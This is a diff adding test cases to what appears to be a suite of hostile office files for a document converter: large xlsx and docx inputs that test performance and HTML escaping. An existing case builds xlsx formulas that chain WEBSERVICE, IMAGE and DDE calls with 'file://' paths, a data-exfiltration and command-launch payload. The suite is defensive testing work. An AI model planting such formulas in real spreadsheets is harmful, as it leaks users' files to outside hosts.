@@ -63,6 +63,29 @@ export const office: readonly Attack[] = [
       },
     ),
   ),
+  harmless(
+    'xlsx-cells-of-many-looks',
+    'xlsx html',
+    () => {
+      const words = '<r><rPr><b/></rPr><t>a </t></r><r><rPr><i/></rPr><t>&lt;b&gt;</t></r>'.repeat(20);
+      return xlsx(
+        Array.from({ length: 3000 }, (_, row) => `<row r="${row + 1}"><c r="A${row + 1}" t="inlineStr"><is>${words}</is></c></row>`).join(
+          '',
+        ),
+      );
+    },
+    { seconds: 60, never: /<b><i><b>/ },
+  ),
+  harmless(
+    'docx-signs-of-many-letters',
+    'docx html',
+    () => {
+      const run = (words: string): string =>
+        `<w:r><w:rPr><w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/></w:rPr><w:t>${words}</w:t></w:r>`;
+      return docx(`<w:p>${run('J&amp;'.repeat(50_000))}</w:p>${`<w:p>${run('J')}</w:p>`.repeat(5000)}`);
+    },
+    { seconds: 60 },
+  ),
   ...['csv', 'json', 'html', 'pdf'].map((to) =>
     harmless(`xlsx-formulas-that-call-${to}`, `xlsx ${to}`, ({ call, file }) =>
       xlsx(formula(`_xlfn.WEBSERVICE("${call}")&amp;'file://${file}'#$a.A1&amp;IMAGE("${call}")&amp;DDE("soffice","${file}","a")`)),
